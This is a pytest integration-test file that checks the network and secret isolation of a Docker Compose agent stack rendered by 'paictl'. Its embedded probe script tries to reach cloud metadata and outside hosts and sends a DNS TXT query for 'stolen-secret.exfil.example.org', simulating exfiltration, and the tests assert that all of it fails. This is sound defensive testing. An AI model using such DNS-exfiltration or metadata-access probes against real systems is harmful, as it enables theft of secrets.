"""The rendered Compose project, run by `docker compose` alone: what paictl writes works without paictl."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import urllib.request
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docker
import pytest

from tests.docker import cis, stock
from tests.docker.compose import compose_command
from tests.docker.conftest import Reached
from tests.ports import free_port
from tests.waiting import until

ROOT = Path(__file__).parents[2]
AGENT = "compose-test"
# Engines from 28 on give an internal network no router at all; older ones name one that is nobody's.
NOWHERE = {"No route to host", "Network is unreachable"}
PYTHON = "/opt/paictl/venv/bin/python"

pytestmark = [pytest.mark.docker, pytest.mark.slow]

# Somebody else's addresses: resolvers, a cloud's metadata, a private network's router.
OUTSIDE = (
    "1.1.1.1",
    "8.8.8.8",
    "9.9.9.9",
    "208.67.222.222",
    "140.82.112.3",
    "169.254.169.254",
    "10.0.0.1",
    "192.168.1.1",
)
NAMES = ("example.com", "stolen-secret.exfil.example.org", "host.docker.internal", "metadata.google.internal")

# Longer than the kernel asks who has the router's address, three seconds: what ends in `timed out` may have left, what ends in
# `No route to host` has found nobody to leave to.
TRY = """
import concurrent.futures, json, socket, sys, time
def connect(place):
    host, port = place
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET) as attempt:
        attempt.settimeout(8)
        try: attempt.connect((host, port))
        except OSError as error: return error.strerror or str(error)
    return "connected"
def lookup(name):
    began = time.monotonic()
    try: said = socket.getaddrinfo(name, 443)[0][4][0]
    except OSError: said = ""
    return [said, time.monotonic() - began]
def text_record(server):
    question = bytes.fromhex("123401000001000000000000") + b"\\x0dstolen-secret\\x05exfil\\x07example\\x03org\\x00\\x00\\x10\\x00\\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(8)
        try:
            asking.sendto(question, (server, 53))
            return asking.recv(512)[7]
        except OSError as error: return str(error)
wanted = json.load(sys.stdin)
with concurrent.futures.ThreadPoolExecutor(32) as at_once:
    print(json.dumps({
        "connect": dict(zip(map(str, wanted["places"]), at_once.map(connect, wanted["places"]))),
        "lookup": dict(zip(wanted["names"], map(lookup, wanted["names"]))),
        "text": dict(zip(wanted["servers"], at_once.map(text_record, wanted["servers"]))),
        "routes": [line.split()[:3] for line in open("/proc/net/route")][1:],
    }))
"""


SIGNAL = """
import os, signal, sys
for process in os.listdir("/proc"):
    if process.isdigit() and process not in {"1", str(os.getpid())}:
        if b"paictl.runtime.agent" in open(f"/proc/{process}/cmdline", "rb").read():
            os.kill(int(process), signal.Signals[sys.argv[1]])
"""


@dataclass(frozen=True)
class Project:
    """A rendered folder, and the engine that it runs on."""

    folder: Path
    command: list[str]
    api: docker.APIClient
    port: int

    def compose(self, *arguments: str, given: str = "") -> subprocess.CompletedProcess[str]:
        command = [*self.command, *arguments]
        return subprocess.run(command, cwd=self.folder, input=given, capture_output=True, text=True, check=False)

    def container(self, service: str) -> Mapping[str, Any]:
        found: Mapping[str, Any] = self.api.inspect_container(f"{AGENT}-{service}-1")
        return found

    def tried(self, service: str, wanted: Mapping[str, object]) -> dict[str, Any]:
        """What happened to these attempts inside a service's container."""
        everything = {"places": [], "names": [], "servers": [], **wanted}
        done = self.compose("exec", "-T", service, PYTHON, "-c", TRY, given=json.dumps(everything))
        assert done.returncode == 0, done.stderr
        found: dict[str, Any] = json.loads(done.stdout)
        return found

    def addresses(self, service: str) -> dict[str, Mapping[str, str]]:
        """Network (as the file names it) -> the container's place there."""
        networks = self.container(service)["NetworkSettings"]["Networks"]
        return {name.removeprefix(f"{AGENT}_"): place for name, place in networks.items()}

    def ids(self) -> dict[str, str]:
        return {name: self.container(name)["Id"] for name in ("model-chat", "model-embed", "gateway", "agent")}

    def signal_agent(self, signal: str) -> None:
        """Send the agent's program a signal, and neither the container's first process nor whoever sends it."""
        self.compose("exec", "-T", "agent", PYTHON, "-c", SIGNAL, signal)

    def says_it_is_well(self, service: str) -> bool:
        """Whether its own health check, asked now, says so."""
        test = self.container(service)["Config"]["Healthcheck"]["Test"]
        return self.compose("exec", "-T", service, *test[1:]).returncode == 0

    def ask(self, path: str, question: object = None) -> dict[str, Any]:
        token = (self.folder / "secrets" / "gateway-token").read_text(encoding="ascii")
        headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
        body = json.dumps(question).encode() if question else None
        request = urllib.request.Request(f"http://127.0.0.1:{self.port}{path}", body, headers)
        with urllib.request.urlopen(request, timeout=120) as answer:  # noqa: S310 - the address is above
            said: dict[str, Any] = json.load(answer)
        return said


@pytest.fixture(scope="module")
def project(engine: Reached, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Project]:
    """The quickstart's agent for Docker, rendered and started as its README says."""
    folder, port = tmp_path_factory.mktemp("compose"), free_port()
    source = folder / "source"
    shutil.copytree(ROOT / "examples" / "quickstart", source)
    manifest = (source / "agent.yaml").read_text(encoding="utf-8")
    for old, new in (
        ("{driver: native}", "{driver: docker}"),
        ("{name: atlas,", f"{{name: {AGENT},"),
        ("\n  models:", f"\n  images: {{base: '{stock.base(engine.api)}'}}\n  gateway: {{port: {port}}}\n  models:"),
    ):
        assert old in manifest
        manifest = manifest.replace(old, new, 1)
    (source / "agent.yaml").write_text(manifest, encoding="utf-8")
    out = folder / "out"
    render = [str(ROOT / ".venv" / "bin" / "paictl"), "render", "-f", str(source / "agent.yaml"), "-o", str(out)]
    subprocess.run(render, check=True, capture_output=True)
    made = Project(out, compose_command(engine.host), engine.api, port)
    steps = re.findall(r"^ {7}(.+)$", (out / "README.md").read_text(encoding="utf-8"), re.MULTILINE)
    subprocess.run(["sh", "-ec", "\n".join(steps)], cwd=out, check=True)
    try:
        started = made.compose("up", "--build", "--detach", "--wait")
        assert started.returncode == 0, started.stderr[-4000:]
        yield made
    finally:
        made.compose("down", "--volumes", "--rmi", "local", "--timeout", "1")


def test_compose_accepts_the_file_as_it_stands(project: Project) -> None:
    told = project.compose("config", "--format", "json")
    assert (told.returncode, told.stderr) == (0, "")
    assert {*json.loads(told.stdout)["services"]} == {"weights", "model-chat", "model-embed", "gateway", "agent"}


def test_a_real_model_answers_through_the_published_port(project: Project) -> None:
    assert project.ask("/v1/models")["data"][0]["id"] == AGENT
    question = {"model": AGENT, "messages": [{"role": "user", "content": "Say hello."}], "max_tokens": 16}
    answer = project.ask("/v1/chat/completions", question)
    assert answer["choices"][0]["message"]["content"].strip()


def test_a_file_that_did_not_change_leaves_everything_running(project: Project) -> None:
    project.compose("up", "--detach", "--wait")
    before = project.ids()
    assert project.compose("up", "--detach", "--wait").returncode == 0
    assert project.ids() == before


@pytest.mark.promise(33)
def test_section_5_of_the_cis_benchmark_finds_nothing_in_the_stack(project: Project) -> None:
    containers = [one["Id"] for one in project.api.containers(all=True, filters={"label": f"paictl.agent={AGENT}"})]
    assert len(containers) == 5
    assert cis.warnings(cis.look(project.api, containers)) == []


@pytest.mark.promise(24)
def test_nothing_but_the_gateway_answers_in_the_agents_room(project: Project) -> None:
    [room] = project.addresses("agent").values()
    told = subprocess.run(["ip", "-4", "addr"], capture_output=True, text=True, check=True).stdout
    machine = re.findall(r"inet ([0-9.]+)", told)
    bridges = [place["Gateway"] for name in ("gateway", "model-chat") for place in project.addresses(name).values()]
    others = [
        place["IPAddress"]
        for name in ("gateway", "model-chat", "model-embed")
        for place in project.addresses(name).values()
    ]
    [door] = [
        place["IPAddress"]
        for name, place in project.addresses("gateway").items()
        if place["NetworkID"] == room["NetworkID"]
    ]
    elsewhere = {room["Gateway"], *machine, *bridges, *others, *OUTSIDE, "fd00::1", "2606:4700:4700::1111"}
    forbidden = elsewhere - {door, "127.0.0.1", ""}
    places = [[host, port] for host in sorted(forbidden) for port in (22, 53, 443, 8080, project.port)]
    servers = ["127.0.0.11", room["Gateway"] or "1.1.1.1", "8.8.8.8"]
    tried = project.tried("agent", {"places": [*places, [door, 8701]], "names": NAMES, "servers": servers})
    assert tried["connect"].pop(str([door, 8701])) == "connected"
    unreached = NOWHERE | {"Cannot assign requested address"}
    assert {place: said for place, said in tried["connect"].items() if said not in unreached} == {}
    assert [said for said, _ in tried["lookup"].values()] == [""] * len(NAMES)
    # No record came back; a byte would be the number of answers.
    assert not [said for said in tried["text"].values() if isinstance(said, int) and said]


def test_a_lookup_that_can_not_succeed_fails_within_seconds(project: Project) -> None:
    tried = project.tried("agent", {"names": NAMES})
    assert max(seconds for _, seconds in tried["lookup"].values()) < 4


@pytest.mark.parametrize("service", ["model-chat", "model-embed"])
def test_a_model_server_reaches_the_gateways_network_and_nothing_outside(service: str, project: Project) -> None:
    places = [[host, 443] for host in OUTSIDE]
    tried = project.tried(service, {"places": places, "names": NAMES})
    assert {*tried["connect"].values()} <= NOWHERE
    assert [said for said, _ in tried["lookup"].values()] == [""] * len(NAMES)
    assert [*project.addresses(service)] == [f"to-{service}"]


def test_the_gateways_way_back_to_who_asks_is_the_doors_network(project: Project) -> None:
    # A gateway has several networks, and the engine takes the first by name for its default route.
    routes = project.tried("gateway", {})["routes"]
    [[_, _, router]] = [route for route in routes if route[1] == "00000000"]
    written = ".".join(str(byte) for byte in reversed(bytes.fromhex(router)))
    assert written == project.addresses("gateway")["door"]["Gateway"]


def test_a_gateway_without_declared_egress_gets_no_answer_from_outside(project: Project) -> None:
    tried = project.tried("gateway", {"places": [[host, 443] for host in OUTSIDE], "names": NAMES})
    assert "connected" not in tried["connect"].values()
    assert [said for said, _ in tried["lookup"].values()] == [""] * len(NAMES)


@pytest.mark.promise(23)
def test_each_service_reads_its_own_secrets_and_sees_no_other(project: Project) -> None:
    wanted = {"agent": ["agent-token", "checkpoint-key"], "gateway": ["agent-token", "gateway-token"]}
    for service, names in wanted.items():
        look = "import os; print(sorted(n for n in os.listdir('secrets') if open(f'secrets/{n}').read()))"
        assert project.compose("exec", "-T", service, PYTHON, "-c", look).stdout.strip() == str(names)
    value = (project.folder / "secrets" / "checkpoint-key").read_text(encoding="ascii")
    containers = project.api.containers(all=True, filters={"label": f"paictl.agent={AGENT}"})
    assert value not in json.dumps([project.api.inspect_container(one["Id"]) for one in containers])


def test_a_service_whose_program_dies_is_started_again(project: Project) -> None:
    before = project.container("agent")["RestartCount"]
    project.signal_agent("SIGKILL")
    until(lambda: int(project.container("agent")["RestartCount"]) > before, "Docker started it again")
    until(lambda: project.says_it_is_well("agent"), "it said hello again", 90)


def test_the_agent_is_not_well_before_the_gateway_has_heard_of_it(project: Project) -> None:
    project.signal_agent("SIGSTOP")
    try:
        # A new gateway has heard of nobody yet.
        assert project.compose("restart", "gateway").returncode == 0
        until(lambda: project.says_it_is_well("gateway"), "the gateway is back", 90)
        assert not project.says_it_is_well("agent")
    finally:
        project.signal_agent("SIGCONT")
    until(lambda: project.says_it_is_well("agent"), "it said hello again", 90)


def test_a_changed_configuration_makes_its_container_anew_and_no_other(project: Project) -> None:
    project.compose("up", "--detach", "--wait")
    before = project.ids()
    place = project.folder / "compose.yaml"
    text = place.read_text(encoding="utf-8")
    digests = re.findall(r'paictl\.config: "([0-9a-f]{12})"', text)
    try:
        place.write_text(text.replace(digests[-1], "0" * 12), encoding="utf-8")
        assert project.compose("up", "--detach", "--wait").returncode == 0
        assert [name for name, id_ in project.ids().items() if id_ != before[name]] == ["agent"]
    finally:
        place.write_text(text, encoding="utf-8")
